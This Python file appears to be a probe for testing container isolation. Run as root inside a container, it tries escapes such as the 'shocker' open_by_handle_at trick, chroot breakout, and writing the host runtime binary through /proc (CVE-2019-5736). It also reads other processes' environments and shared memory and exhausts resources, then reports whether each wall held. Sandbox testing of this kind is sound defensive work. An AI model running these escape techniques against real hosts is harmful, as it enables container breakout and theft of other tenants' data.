"""What an attacker runs as root in a container. Copied into its image with a Python; standard library only, see image.py.

python3 -I -S /probe.py ATTEMPT WORDS…      prints "got: evidence", or "kept: why"; anything else is a broken probe
"""

import ctypes
import errno
import os
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
NR = {
    "x86_64": {"init_module": 175, "add_key": 248, "keyctl": 250, "name_to_handle_at": 303, "open_by_handle_at": 304, "bpf": 321},
    "aarch64": {"init_module": 105, "add_key": 217, "keyctl": 219, "name_to_handle_at": 264, "open_by_handle_at": 265, "bpf": 280},
}.get(os.uname().machine, {})


class Kept(Exception):
    """The wall held, and how."""


def call(name, *args):
    libc.syscall.restype = ctypes.c_long
    words = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    result = libc.syscall(ctypes.c_long(NR[name]), *words)
    return result if result >= 0 else -ctypes.get_errno()


def mount(source, target, kind, flags=0, data=""):
    if libc.mount(source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), data.encode()):
        number = ctypes.get_errno()
        raise OSError(number, f"mount {kind}: {os.strerror(number)}")


def unmount(target):
    libc.umount2(target.encode(), 2)


# -- code as somebody else -----------------------------------------------------------------------------------


def node(kind, major, minor):
    """A device node of one's own, in a file system of one's own, and a read of the device."""
    try:
        mount("none", "/tmp", "tmpfs")
    except OSError:
        return _node(kind, major, minor)
    try:
        return _node(kind, major, minor)
    finally:
        unmount("/tmp")


def _node(kind, major, minor):
    path = f"/tmp/node-{os.getpid()}"
    os.mknod(path, 0o600 | {"b": 0o060000, "c": 0o020000}[kind], os.makedev(int(major), int(minor)))
    try:
        with open(path, "rb", buffering=0) as device:
            return f"{len(device.read(4096))} bytes of {major}:{minor}"
    finally:
        os.unlink(path)


def kernel_file(kind, name, marked=""):
    """Write to a file of a fresh mount of proc, sysfs or a cgroup hierarchy what it holds already."""
    place = "/tmp"
    for path in (f"/proc/{name}",) if kind == "proc" else ():
        try:
            return _rewrite(path, marked)
        except OSError:
            pass
    mount("none", place, kind.partition(":")[0], data=kind.partition(":")[2])
    try:
        return _rewrite(f"{place}/{name}", marked)
    finally:
        unmount(place)


def _rewrite(path, content):
    if not content:
        with open(path) as file:
            content = file.read()
    with open(path, "w") as file:
        file.write(content or "\n")
    return f"{path} written"


def new_mount(kind, source="none", look=""):
    place = "/tmp"
    mount(source, place, kind, 1 if source != "none" else 0)
    try:
        found = sorted(os.listdir(place))
        if look and look not in found:
            raise Kept(f"no {look} in it")
        return f"{kind} mounted: {found[:4]}"
    finally:
        unmount(place)


def module():
    """Whether the kernel looks at what it is given to load."""
    code = -call("init_module", b"no module", 9, b"")
    if code in (errno.EPERM, errno.ENOSYS):
        raise Kept(os.strerror(code))
    return f"the kernel read our module: {os.strerror(code)}"


def bpf():
    """A program that classifies packets: two instructions, r0 = 0; exit."""
    code = (ctypes.c_uint64 * 2)(0x00000000000000B7, 0x0000000000000095)
    name = ctypes.create_string_buffer(b"GPL")
    words = bytearray(144)
    words[0:8] = (3).to_bytes(4, sys.byteorder) + (2).to_bytes(4, sys.byteorder)
    words[8:24] = ctypes.addressof(code).to_bytes(8, sys.byteorder) + ctypes.addressof(name).to_bytes(8, sys.byteorder)
    attributes = (ctypes.c_char * len(words)).from_buffer(words)
    found = call("bpf", 5, attributes, len(words))
    if found < 0:
        raise Kept(os.strerror(-found))
    return "the kernel took our program"


def handle(base, mark):
    """open_by_handle_at of inode 2, the root of the file system that a file of ours lies on (CVE-2014-3519, "shocker")."""
    fd = os.open(base, os.O_RDONLY)
    words = bytearray((8).to_bytes(4, sys.byteorder) + (1).to_bytes(4, sys.byteorder) + (2).to_bytes(4, sys.byteorder) + bytes(4))
    found = call("open_by_handle_at", fd, (ctypes.c_char * len(words)).from_buffer(words), os.O_RDONLY)
    if found < 0:
        raise Kept(os.strerror(-found))
    return _marked(found, mark)


def _marked(fd, mark):
    """What a file of the host's below a folder's descriptor says. ``mark``: its path from the root."""
    for path in (mark.lstrip("/"), "../" * 30 + mark.lstrip("/")):
        try:
            with open(os.open(path, os.O_RDONLY, dir_fd=fd)) as file:
                return f"{mark}: {file.read(40)}"
        except OSError:
            pass
    raise Kept("not the host's")


def outside(mark):
    """A file of the host's: by ``..``, by chroot(2) and by the roots of processes."""
    os.makedirs("/tmp/jail", exist_ok=True)
    top = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.chroot("/tmp/jail")
        os.fchdir(top)
        for _ in range(30):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    places = ["/"] + [f"/proc/{pid}/{link}" for pid in os.listdir("/proc") if pid.isdigit() for link in ("root", "cwd")]
    for place in places:
        try:
            return _marked(os.open(place, os.O_RDONLY | os.O_DIRECTORY), mark)
        except (OSError, Kept):
            pass
    raise Kept("not the host's")


def descriptors(mark):
    """What this process and the first one hold, from the first to the last: does any lead out?"""
    for pid in ("self", "1"):
        for name in os.listdir(f"/proc/{pid}/fd"):
            try:
                return _marked(os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_DIRECTORY), mark)
            except (OSError, Kept):
                pass
    raise Kept("none leads out")


def others_program(seconds):
    """Whoever enters runs a program of the host's for a moment: may it be written? CVE-2019-5736."""
    own = {os.stat(path).st_ino for path in ("/usr/bin/python3", "/bin/busybox")}
    seen, until = 0, time.monotonic() + float(seconds)
    while time.monotonic() < until:
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                fd = os.open(f"/proc/{pid}/exe", os.O_PATH)
            except OSError:
                continue
            try:
                if os.fstat(fd).st_ino in own:
                    continue
                seen += 1
                os.close(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY))
                return "a program of the host's is open for writing"
            except OSError as error:
                if error.errno == errno.ETXTBSY:
                    return "only that it runs keeps a program of the host's from being written"
            finally:
                os.close(fd)
    raise Kept(f"{seen} looks at programs from outside")


def own_program():
    """Run as ``/proc/self/exe`` of whoever starts containers: is this program writable?"""
    try:
        os.close(os.open("/proc/self/exe", os.O_WRONLY))
    except OSError as error:
        if error.errno != errno.ETXTBSY:
            raise
    if os.stat("/proc/self/exe").st_ino == os.stat("/usr/bin/python3").st_ino:
        raise Kept("it is the container's own program")
    return "a program of the host's may be written"


def become(uid):
    os.setgroups([])
    os.setresuid(int(uid), int(uid), int(uid))
    return f"uid {os.getuid()}"


def signal_to(pid):
    """A process by its number on the host."""
    os.kill(int(pid), 0)
    return f"process {pid} can be signalled"


def trace(pid):
    if libc.ptrace(0x4206, int(pid), None, None):  # PTRACE_SEIZE, linux/ptrace.h
        raise Kept(os.strerror(ctypes.get_errno()))
    return f"process {pid} is traced"


# -- what others have ----------------------------------------------------------------------------------------


def processes(mark):
    """The mark in the command line or environment of any process."""
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for name in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as file:
                        if mark.encode() in file.read() and b"processes\0" not in _cmdline(pid):
                            return f"/proc/{pid}/{name} has {mark}"
                except OSError:
                    pass
    raise Kept("none has it")


def _cmdline(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as file:
        return file.read()


def named(top, mark):
    """A folder of that name below ``top``: cgroups of others."""
    for folder, folders, _files in os.walk(top):
        if mark in folders:
            return f"{folder}/{mark}"
    raise Kept("none of that name")


def said(path, mark):
    with open(path, errors="replace") as file:
        for line in file:
            if mark in line:
                return f"{path}: {line.strip()[:100]}"
    raise Kept(f"{path} does not say {mark}")


def shared_memory(mark):
    """Every segment of System V: what /proc/sysvipc lists, attached."""
    with open("/proc/sysvipc/shm") as file:
        numbers = [int(line.split()[1]) for line in list(file)[1:]]
    libc.shmat.restype = ctypes.c_void_p
    for number in numbers:
        address = libc.shmat(number, None, 0o10000)
        if address not in (None, ctypes.c_void_p(-1).value) and mark.encode() in ctypes.string_at(address, 64):
            return f"segment {number}: {mark}"
    raise Kept(f"{len(numbers)} segments")


def abstract(name):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(5)
        sock.connect(f"\0{name}")
        return sock.recv(100).decode()


def keys():
    """A key of one's own in the kernel's store, which no namespace keeps apart."""
    found = call("add_key", b"user", b"slipway-attack", b"x", 1, -3)  # KEY_SPEC_SESSION_KEYRING
    if found < 0:
        raise Kept(os.strerror(-found))
    call("keyctl", 21, found, -3)  # KEYCTL_INVALIDATE
    return f"key {found}"


def kernel_log():
    buffer = ctypes.create_string_buffer(4096)
    count = libc.klogctl(3, buffer, 4096)
    if count > 0:
        return f"{count} bytes of the kernel's log"
    with open("/dev/kmsg", "rb", buffering=0) as file:
        return f"/dev/kmsg: {len(file.read(4096))} bytes"


def door(path):
    """A unix socket of the control plane."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        with socket.socket(socket.AF_UNIX, kind) as sock:
            try:
                sock.connect(path)
                return f"{path} is open"
            except OSError as error:
                if error.errno != errno.EPROTOTYPE:
                    raise
    raise Kept("no kind of socket")


# -- more than the quota -------------------------------------------------------------------------------------


def forks(most):
    """Children that stay, up to a number that is no harm."""
    children = []
    try:
        for _ in range(int(most)):
            child = os.fork()
            if child == 0:
                time.sleep(600)
                os._exit(0)
            children.append(child)
    except OSError as error:
        raise Kept(f"{len(children)} processes: {error.strerror}") from None
    finally:
        for child in children:
            os.kill(child, 9)
        for child in children:
            os.waitpid(child, 0)
    return f"{len(children)} processes"


def memory(mebibytes):
    kept = []
    for _ in range(int(mebibytes)):
        piece = bytearray(1 << 20)
        piece[::4096] = b"x" * 256
        kept.append(piece)
    return f"{len(kept)} MiB"


def pipes(mebibytes):
    """Memory of the kernel's: what lies in pipes."""
    kept, total = [], 0
    while total < int(mebibytes) << 20:
        reading, writing = os.pipe()
        kept.append((reading, writing))
        os.set_blocking(writing, False)
        try:
            while True:
                total += os.write(writing, bytes(65536))
        except BlockingIOError:
            pass
    return f"{total >> 20} MiB in {len(kept)} pipes"


def burn(seconds, most):
    """Share of one processor that two processes get."""
    child = os.fork()
    began, until = time.process_time(), time.monotonic() + float(seconds)
    while time.monotonic() < until:
        pass
    used = time.process_time() - began
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    times = os.times()
    share = (used + times.children_user + times.children_system) / float(seconds)
    if share <= float(most):
        raise Kept(f"{share:.2f} processors")
    return f"{share:.2f} processors"


def fill(folder, mebibytes):
    path = f"{folder}/filling-{os.getpid()}"
    try:
        with open(path, "wb", buffering=0) as file:
            for _ in range(int(mebibytes)):
                file.write(os.urandom(1 << 20))
            os.fsync(file.fileno())
        return f"{mebibytes} MiB in {folder}"
    finally:
        os.unlink(path)


def files(folder, count):
    place = f"{folder}/files-{os.getpid()}"
    os.mkdir(place)
    made = 0
    try:
        for made in range(int(count)):
            os.close(os.open(f"{place}/{made}", os.O_CREAT | os.O_WRONLY))
    finally:
        for number in range(made + 1):
            try:
                os.unlink(f"{place}/{number}")
            except OSError:
                pass
        os.rmdir(place)
    return f"{count} files"


def reach(address, port):
    with socket.create_connection((address, int(port)), timeout=1) as sock:
        sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return f"{address}:{port} answered {sock.recv(40)!r}"


def lookup(name):
    """By every way a name can be asked for. A name server of the world's, which there may not be, is not waited for."""
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
    for each in name.split(","):
        try:
            found = socket.gethostbyaddr(each)[0] if each[:1].isdigit() else socket.gethostbyname(each)
            return f"{each} is {found}"
        except OSError:
            pass
    raise Kept("no such name")


def keep(mark):
    """The victim: its environment and command line, a segment of shared memory, an abstract socket, a web server on 8080."""
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(0, 4096, 0o1666)
    ctypes.memmove(libc.shmat(segment, None, 0), mark.encode(), len(mark))
    with socket.socket(socket.AF_UNIX) as near, socket.create_server(("0.0.0.0", 8080)) as far:
        near.bind(f"\0{mark}")
        near.listen(8)
        print("ready", flush=True)
        if os.fork() == 0:
            while True:
                with far.accept()[0] as client:
                    client.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + mark.encode())
        while True:
            with near.accept()[0] as client:
                client.sendall(mark.encode())


def main():
    act, *words = sys.argv[1:]
    if act == "--as":
        become(words[0])
        act, *words = words[1:]
    try:
        print("got:", globals()[act](*words))
    except Kept as why:
        print("kept:", why)
    except (OSError, MemoryError) as error:
        print("kept:", error)


main()
